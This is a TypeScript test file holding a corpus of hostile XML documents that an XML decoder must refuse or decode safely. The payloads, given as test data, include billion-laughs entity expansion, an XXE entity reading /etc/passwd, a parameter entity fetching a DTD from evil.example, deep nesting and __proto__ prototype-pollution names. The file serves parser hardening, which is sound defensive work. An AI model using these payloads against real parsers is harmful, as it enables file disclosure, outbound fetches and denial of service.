/**
 * The decoder part of the hostile corpus (the transport part is hostile.transport.test.ts): documents an attacker,
 * a broken proxy or a buggy service could send, each read by both readers (the single-pass reader and the
 * fast-xml-parser fallback), which must give the same outcome: refused with a CiDecodeError, or decoded to
 * exactly the value listed. Nothing may crash, hang, expand, pollute a prototype or come back half-decoded.
 *
 * Categories: entity expansion and external entities; nesting (elements, hidden by comments or CDATA); size;
 * references (undefined, HTML, out-of-range, surrogates, forbidden characters); characters XML forbids; document
 * structure (roots, text outside the root, declarations, processing instructions); markup smuggled in comments and
 * CDATA; names that are prototype properties, at every level; shapes the spec refuses (text for an object,
 * elements for text, repeated singles); counts and sizes (many elements, many issues).
 */
import { CiDecodeError, decodeDocument, documentShape, member, objectShape, type DecodeOptions } from '../src';

const Job = objectShape([
  member('JobId', 'string', { required: true }),
  member('Count', 'integer', { minimum: 0 }),
  member('Input', objectShape([member('Object', 'string')])),
]);
const Doc = documentShape(
  'Response',
  objectShape([
    member('JobsDetail', Job, { array: true, required: true }),
    member('NextToken', 'string'),
    member('TotalCount', 'integer', { minimum: 0 }),
  ]),
);

type Expected = { readonly refused: RegExp } | { readonly value: Record<string, unknown>; readonly issues?: number };

const deep = (n: number, inner = '') => `${'<a>'.repeat(n)}${inner}${'</a>'.repeat(n)}`;

const CORPUS: ReadonlyArray<readonly [category: string, xml: string, expected: Expected, options?: DecodeOptions]> = [
  // entity expansion and external entities: refused before anything is expanded or fetched
  [
    'billion laughs',
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><Response><NextToken>&lol2;</NextToken></Response>`,
    { refused: /DOCTYPE/ },
  ],
  [
    'external entity (XXE)',
    `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Response><NextToken>&xxe;</NextToken></Response>`,
    { refused: /DOCTYPE/ },
  ],
  ['parameter entity', `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Response/>`, { refused: /DOCTYPE/ }],
  ['a lower-case doctype', `<!doctype html><Response/>`, { refused: /DOCTYPE/ }],
  ['an entity declaration alone', `<Response><!ENTITY x "y"></Response>`, { refused: /DOCTYPE|entity/ }],
  [
    'a doctype inside a comment is text',
    `<Response><!-- <!DOCTYPE x> --><NextToken>t</NextToken></Response>`,
    { value: { NextToken: 't', JobsDetail: [] } },
  ],
  // nesting
  ['10,000 nested elements', `<Response>${deep(10_000)}</Response>`, { refused: /deeper than 64/ }],
  [
    'nesting hidden between comments',
    `<Response>${'<a><!--x-->'.repeat(80)}${'</a>'.repeat(80)}</Response>`,
    { refused: /deeper than 64/ },
  ],
  ['self-closing elements count too', `<Response>${deep(63, '<b/>')}</Response>`, { refused: /deeper than 64/ }],
  ['64 levels are fine', `<Response>${deep(62, '<b/>')}</Response>`, { value: { a: [expectDeep(61)], JobsDetail: [] }, issues: 1 }],
  [
    'nesting inside CDATA is text',
    `<Response><NextToken><![CDATA[${deep(200)}]]></NextToken></Response>`,
    { value: { NextToken: deep(200), JobsDetail: [] } },
  ],
  // size
  [
    'a body over the limit',
    `<Response><NextToken>${'x'.repeat(2000)}</NextToken></Response>`,
    { refused: /larger than 1000/ },
    { maxChars: 1000 },
  ],
  [
    'a huge attribute (fallback)',
    `<Response a="${'x'.repeat(100_000)}"><NextToken>t</NextToken></Response>`,
    { value: { NextToken: 't', JobsDetail: [] } },
  ],
  [
    'a very long element name',
    `<Response><${'N'.repeat(50_000)}>1</${'N'.repeat(50_000)}></Response>`,
    { value: { ['N'.repeat(50_000)]: ['1'], JobsDetail: [] }, issues: 1 },
  ],
  // references
  ['an undefined entity', `<Response><NextToken>&lol;</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['an HTML entity', `<Response><NextToken>a&nbsp;b</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['a reference to NUL', `<Response><NextToken>&#0;</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['a reference to a surrogate', `<Response><NextToken>&#xD83D;&#xDE00;</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['a reference past Unicode', `<Response><NextToken>&#x110000;</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['a reference with leading zeros', `<Response><NextToken>&#x0000004E2D;</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['a bare ampersand', `<Response><NextToken>a & b</NextToken></Response>`, { refused: /not an XML entity/ }],
  ['an entity in an attribute (fallback)', `<Response a="&lol;"/>`, { refused: /not an XML entity/ }],
  [
    'references decode once',
    `<Response><NextToken>&amp;lt;&#x26;amp;</NextToken></Response>`,
    { value: { NextToken: '&lt;&amp;', JobsDetail: [] } },
  ],
  // characters XML forbids
  ['a NUL character', `<Response><NextToken>a\u0000b</NextToken></Response>`, { refused: /forbids/ }],
  ['an escape character', `<Response><NextToken>\u001b[31m</NextToken></Response>`, { refused: /forbids/ }],
  ['U+FFFE', `<Response><NextToken>\ufffe</NextToken></Response>`, { refused: /forbids/ }],
  // document structure
  ['two roots', `<Response/><Response/>`, { refused: /second root/ }],
  ['a root then text', `<Response/>x`, { refused: /outside the root/ }],
  ['text before the root', `x<Response/>`, { refused: /outside the root/ }],
  ['another root', `<Error><Code>x</Code></Error>`, { refused: /Expected a <Response> document/ }],
  ['a declaration in the middle', `<Response><?xml version="1.0"?></Response>`, { refused: /declaration/ }],
  ['a second declaration', `<?xml version="1.0"?><?xml version="1.0"?><Response/>`, { refused: /declaration/ }],
  ['a malformed declaration', `<?xml version="2.0" garbage?><Response/>`, { refused: /declaration/ }],
  [
    'a processing instruction is skipped',
    `<?xml-stylesheet href="x"?><Response><?pi data?><NextToken>t</NextToken></Response>`,
    { value: { NextToken: 't', JobsDetail: [] } },
  ],
  ['an unterminated comment', `<Response><!-- x </Response>`, { refused: /Not well-formed|ends inside/ }],
  ['an unterminated CDATA', `<Response><NextToken><![CDATA[x</NextToken></Response>`, { refused: /Not well-formed|ends inside/ }],
  ['a mismatched end tag', `<Response><NextToken>t</NextTokens></Response>`, { refused: /Not well-formed/ }],
  ['no end tag', `<Response><NextToken>t</NextToken>`, { refused: /Not well-formed/ }],
  ['an end tag only', `</Response>`, { refused: /Not well-formed/ }],
  // markup smuggled in comments and CDATA is text, never elements
  ['an element inside a comment', `<Response><!-- <JobsDetail><JobId>x</JobId></JobsDetail> --></Response>`, { value: { JobsDetail: [] } }],
  [
    'markup inside CDATA',
    `<Response><NextToken><![CDATA[</NextToken><TotalCount>-1</TotalCount>]]></NextToken></Response>`,
    { value: { NextToken: '</NextToken><TotalCount>-1</TotalCount>', JobsDetail: [] } },
  ],
  // names that are prototype properties, at every level
  [
    '__proto__ at the top',
    `<Response><__proto__><polluted>1</polluted></__proto__></Response>`,
    { value: { ['__proto__']: [{ polluted: ['1'] }], JobsDetail: [] }, issues: 1 },
  ],
  [
    '__proto__ inside a known element',
    `<Response><JobsDetail><JobId>j</JobId><__proto__>x</__proto__><prototype>y</prototype></JobsDetail></Response>`,
    { value: { JobsDetail: [{ JobId: 'j', ['__proto__']: ['x'], prototype: ['y'] }] }, issues: 2 },
  ],
  [
    'prototype names inside an unknown element',
    `<Response><X><toString>1</toString><hasOwnProperty>2</hasOwnProperty><__proto__/></X></Response>`,
    { value: { X: [{ toString: ['1'], hasOwnProperty: ['2'], ['__proto__']: [''] }], JobsDetail: [] }, issues: 1 },
  ],
  // shapes the spec refuses
  ['text where an object is', `<Response><JobsDetail>text</JobsDetail></Response>`, { refused: /Expected child elements/ }],
  ['elements where text is', `<Response><NextToken><a/></NextToken></Response>`, { refused: /Expected text/ }],
  ['a repeated single element', `<Response><NextToken>a</NextToken><NextToken>b</NextToken></Response>`, { refused: /more than once/ }],
  ['an integer that is not one', `<Response><TotalCount>1e3</TotalCount></Response>`, { refused: /integer/ }],
  ['an integer past 2^53', `<Response><TotalCount>9007199254740993</TotalCount></Response>`, { refused: /integer/ }],
  [
    'a negative count decodes, as an issue',
    `<Response><TotalCount>-1</TotalCount></Response>`,
    { value: { TotalCount: -1, JobsDetail: [] }, issues: 1 },
  ],
  // counts: many empty or unknown elements cost little and say little
  ['40,000 empty JobsDetail', `<Response>${'<JobsDetail/>'.repeat(40_000)}</Response>`, { value: { JobsDetail: [] } }],
  [
    '20,000 unknown elements: kept, counted, a few listed',
    `<Response>${'<New>1</New>'.repeat(20_000)}</Response>`,
    { value: { New: Array(20_000).fill('1'), JobsDetail: [] }, issues: 20_000 },
  ],
];

function expectDeep(depth: number): unknown {
  // the unknown `a` elements of the 64-levels case: each an array of one object, the innermost holding <b/>
  let v: unknown = { b: [''] };
  for (let i = 0; i < depth; i++) v = { a: [v] };
  return v;
}

describe.each<['auto' | 'fallback']>([['auto'], ['fallback']])('hostile documents (%s reader)', (reader) => {
  test.each(CORPUS.map((c) => [c[0], c] as const))('%s', (_name, [, xml, expected, options]) => {
    let outcome: ReturnType<typeof decodeDocument> | CiDecodeError;
    try {
      outcome = decodeDocument(xml, Doc, { ...options, reader, maxIssues: 5 });
    } catch (e) {
      expect(e).toBeInstanceOf(CiDecodeError);
      outcome = e as CiDecodeError;
    }
    if ('refused' in expected) {
      expect(outcome).toBeInstanceOf(CiDecodeError);
      expect((outcome as CiDecodeError).message).toMatch(expected.refused);
    } else {
      expect(outcome).not.toBeInstanceOf(CiDecodeError);
      const result = outcome as ReturnType<typeof decodeDocument>;
      expect(result.value).toStrictEqual(expected.value);
      expect(result.issueCount).toBe(expected.issues ?? 0);
      expect(result.issues.length).toBe(Math.min(5, expected.issues ?? 0));
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
